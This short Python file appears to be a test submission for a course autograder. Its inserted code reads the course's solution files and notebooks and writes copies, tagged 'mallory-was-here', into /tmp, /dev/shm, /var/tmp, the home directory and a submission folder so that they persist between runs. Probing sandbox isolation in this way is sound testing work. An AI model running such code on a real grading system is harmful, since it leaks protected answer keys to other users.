"""Copies secrets to places that last: /tmp, /dev/shm, /var/tmp and its own submission."""

CODE = """
import glob, os
text = "mallory-was-here\\n"
for path in glob.glob("/srv/course/solutions/02_cost/*") + glob.glob("*.ipynb"):
    try:
        text += open(path).read()
    except OSError:
        pass
for place in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), ".",
              "/srv/course/submitted/mallory-left_for_next_run/02_cost"):
    try:
        open(os.path.join(place, "mallory-was-here.txt"), "w").write(text)
    except OSError as error:
        print(error)
"""


def submit(work):
    work.insert(CODE)
